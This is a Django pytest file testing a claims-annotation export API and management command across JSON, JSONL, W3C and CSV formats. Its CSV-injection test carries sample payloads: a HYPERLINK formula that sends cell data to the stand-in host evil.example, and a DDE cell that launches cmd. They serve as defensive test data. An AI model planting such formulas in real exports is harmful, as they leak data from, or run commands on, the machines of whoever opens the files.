"""GET /api/v1/export/ and `manage.py export_claims`: four formats, one contract, streamed."""

import csv
import io
import json
from io import StringIO

import jsonschema
import pytest
from django.core.management import CommandError, call_command

from annotations.interchange import exporting, formats
from annotations.models import Claim, ClaimStatus, Source
from annotations.scales import SourceKind

from .factories import ClaimFactory, DocumentFactory, SourceFactory
from .helpers import EVERY_STATUS, api, export, validate_claim, validate_export

pytestmark = pytest.mark.django_db
SCHEMA = json.loads(exporting.SCHEMA_FILE.read_text())


@pytest.fixture
def annotated(reviewer, other_reviewer):
    bloomberg = SourceFactory(name="Bloomberg", kind=SourceKind.NEWS_AGENCY)
    officials = SourceFactory(name="officials", kind=SourceKind.UNNAMED)
    document = DocumentFactory(title='S-400, "quoted", title')
    plain = ClaimFactory(document=document, author=reviewer, length=6, note='say "hi", then\nnew line')
    chained = ClaimFactory(
        document=document,
        author=other_reviewer,
        start=7,
        length=4,
        credibility=4,
        likelihood="unlikely",
        status=ClaimStatus.APPROVED,
        chain=[document.publisher, bloomberg, officials],
    )
    return plain, chained


def test_json_export_validates_against_the_schema_file(reviewer, annotated):
    response, body = export(reviewer, format="json", status=EVERY_STATUS)
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"].startswith('attachment; filename="workbench-claims-')
    assert response["Content-Disposition"].endswith('.json"')
    data = json.loads(body)
    validate_export(data)
    assert data["header"]["schema_version"] == "1.3"
    assert data["header"]["filters"] == {"format": "json", "status": EVERY_STATUS}
    plain, chained = annotated
    assert [claim["id"] for claim in data["claims"]] == [plain.pk, chained.pk]
    second = data["claims"][1]
    assert second["chain_display"] == "Press TV > Bloomberg > officials"
    assert [hop["reliability_grade"] for hop in second["chain"]] == ["F", "F", "F"]
    assert second["confidence"]["likelihood_words"] == "Unlikely (20-45%)"


def test_the_api_claim_objects_follow_the_same_schema(reviewer, annotated):
    for record in api(reviewer).get("/api/v1/claims/").json()["results"]:
        validate_claim(record)


def test_a_record_that_breaks_the_contract_fails_validation(reviewer, annotated):
    _, body = export(reviewer, format="json", status=EVERY_STATUS)
    data = json.loads(body)
    data["claims"][0]["confidence"]["credibility"] = 9
    with pytest.raises(jsonschema.ValidationError):
        validate_export(data)


def test_jsonl_has_one_claim_object_per_line(reviewer, annotated):
    response, body = export(reviewer, format="jsonl", status=EVERY_STATUS)
    assert response["Content-Type"] == "application/x-ndjson"
    lines = body.splitlines()
    assert len(lines) == 2
    for line in lines:
        validate_claim(json.loads(line))


def test_w3c_export_is_a_web_annotation_collection(reviewer, annotated):
    response, body = export(reviewer, format="w3c", status=EVERY_STATUS)
    assert response["Content-Disposition"].endswith('.jsonld"')
    data = json.loads(body)
    assert data["@context"][0] == "http://www.w3.org/ns/anno.jsonld"
    assert data["type"] == "AnnotationCollection"
    annotation = data["first"]["items"][1]
    plain, chained = annotated
    assert annotation["type"] == "Annotation" and annotation["motivation"] == "assessing"
    assert annotation["id"].endswith(f"/api/v1/claims/{chained.pk}/")
    quote, position = annotation["target"]["selector"]
    assert quote == {
        "type": "TextQuoteSelector",
        "exact": chained.quote,
        "prefix": chained.prefix,
        "suffix": chained.suffix,
    }
    assert position == {"type": "TextPositionSelector", "start": chained.start, "end": chained.end}
    assessment = next(body for body in annotation["body"] if body["type"] == "wb:Assessment")
    assert [hop["source_name"] for hop in assessment["wb:chain"]] == ["Press TV", "Bloomberg", "officials"]
    assert assessment["wb:confidence"]["credibility"] == 4
    note = data["first"]["items"][0]["body"][0]
    assert note == {
        "type": "TextualBody",
        "purpose": "commenting",
        "value": plain.note,
        "format": "text/plain",
    }


def test_csv_flattens_the_chain_one_row_per_claim(reviewer, annotated):
    response, body = export(reviewer, format="csv", status=EVERY_STATUS)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(body)))
    assert list(rows[0]) == formats.CSV_COLUMNS
    assert len(rows) == 2
    assert rows[0]["note"] == 'say "hi", then\nnew line'
    assert rows[0]["document_title"] == 'S-400, "quoted", title'
    assert rows[1]["chain"] == "Press TV > Bloomberg > officials"
    assert (rows[1]["chain_length"], rows[1]["origin"], rows[1]["anonymous_in_chain"]) == (
        "3",
        "officials",
        "yes",
    )
    assert rows[1]["credibility_words"] == "Doubtful"


def test_by_default_only_approved_claims_are_exported(reviewer, annotated):
    _, body = export(reviewer, format="json")
    data = json.loads(body)
    assert [claim["id"] for claim in data["claims"]] == [annotated[1].pk]
    assert data["header"]["filters"] == {"format": "json", "status": "approved"}


def test_export_applies_the_claim_filters(reviewer, annotated):
    _, body = export(reviewer, format="jsonl", status=["draft", "submitted"])
    assert [json.loads(line)["id"] for line in body.splitlines()] == [annotated[0].pk]
    _, body = export(reviewer, format="jsonl", anonymous="false", status=EVERY_STATUS)
    assert [json.loads(line)["id"] for line in body.splitlines()] == [annotated[0].pk]


@pytest.mark.parametrize(
    ("params", "parameter"),
    [
        ({"format": "xml"}, "format"),
        ({"source": "abc"}, "source"),
        ({"updated_since": "2026-13-45"}, "updated_since"),
        ({"colour": "red"}, "colour"),
    ],
)
def test_bad_export_parameters_get_a_400_before_anything_streams(reviewer, annotated, params, parameter):
    response, body = export(reviewer, **params)
    assert response.status_code == 400 and not response.streaming
    assert parameter in json.loads(body)["errors"]


def test_an_empty_export_is_still_valid(reviewer):
    _, body = export(reviewer, format="json", status=EVERY_STATUS)
    data = json.loads(body)
    validate_export(data)
    assert data["claims"] == []


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_export_runs_the_same_queries_for_10_or_200_claims(reviewer, fmt):
    chain = [SourceFactory(name="Press TV"), SourceFactory(name="Bloomberg"), SourceFactory(name="officials")]
    document = DocumentFactory()

    def count_queries():
        from django.db import connection
        from django.test.utils import CaptureQueriesContext

        with CaptureQueriesContext(connection) as captured:
            export(reviewer, format=fmt)
        return len(captured)

    export(reviewer, format=fmt)  # creates the API token outside the counts
    for n in range(10):
        ClaimFactory(document=document, author=reviewer, start=n, chain=chain)
    small = count_queries()
    for n in range(190):
        ClaimFactory(document=document, author=reviewer, start=n % 50, chain=chain)
    assert count_queries() == small
    assert small <= 6


def test_export_command_writes_a_file_with_the_same_filters(tmp_path, annotated):
    target = tmp_path / "claims.jsonl"
    err = StringIO()
    call_command("export_claims", "--format", "jsonl", "--output", str(target), stderr=err)
    lines = target.read_text().splitlines()
    assert [json.loads(line)["id"] for line in lines] == [annotated[1].pk]
    assert "Exported 1 claims as jsonl" in err.getvalue()
    assert not (tmp_path / "claims.jsonl.partial").exists()


@pytest.mark.parametrize(
    ("filters", "message"),
    [
        (["status=bogus"], "Bad filter: status"),
        (["nonsense=1"], "Bad filter: nonsense"),
        (["status"], "NAME=VALUE"),
    ],
)
def test_export_command_refuses_bad_filters_and_writes_nothing(tmp_path, filters, message):
    target = tmp_path / "out.json"
    args = [arg for item in filters for arg in ("--filter", item)]
    with pytest.raises(CommandError, match=message):
        call_command("export_claims", "--output", str(target), *args)
    assert not target.exists()


def test_the_schema_file_is_served_for_tools():
    response = api().get("/api/v1/export/schema/")
    assert response.status_code == 200 and response.json()["$id"] == SCHEMA["$id"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "\tleading tab",
    "\rleading return",
]


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_made_plain_text(reviewer, moderator):
    # OWASP's CSV injection advice: a leading apostrophe makes the cell text in Excel,
    # LibreOffice and Google Sheets. JSON formats keep the values exactly.
    document = DocumentFactory()
    for number, formula in enumerate(FORMULAS):
        source = SourceFactory(name=f"{formula} #{number}", kind=SourceKind.UNNAMED)
        claim = ClaimFactory(
            document=document,
            author=reviewer,
            start=number,
            status=ClaimStatus.APPROVED,
            moderator=moderator,
            chain=[document.publisher, source],
        )
        # The services trim notes and names, so a leading tab or return never comes in through
        # them; a row written before that rule, or by hand, still can: the export must not rely on it.
        Source.objects.filter(pk=source.pk).update(name=f"{formula} #{number}")
        Claim.objects.filter(pk=claim.pk).update(note=formula)
    rows = list(csv.DictReader(io.StringIO(export(reviewer, format="csv")[1])))
    assert sorted(row["note"] for row in rows) == sorted("'" + formula for formula in FORMULAS)
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
        assert row["origin"].startswith("'") and row["start"].isdigit()
    notes = {json.loads(line)["note"] for line in export(reviewer, format="jsonl")[1].splitlines()}
    assert notes == set(FORMULAS)


def test_jsonl_escapes_line_separators_so_every_line_reader_sees_one_record_a_line(reviewer):
    document = DocumentFactory()
    tricky = "one\u2028two\u2029three\x85four"
    ClaimFactory(document=document, author=reviewer, note=tricky, status=ClaimStatus.APPROVED)
    ClaimFactory(document=document, author=reviewer, start=3, status=ClaimStatus.APPROVED)
    body = export(reviewer, format="jsonl")[1]
    lines = body.splitlines()  # splits at U+2028, U+2029 and U+0085 too
    assert len(lines) == 2
    assert {json.loads(line)["note"] for line in lines} == {tricky, ""}
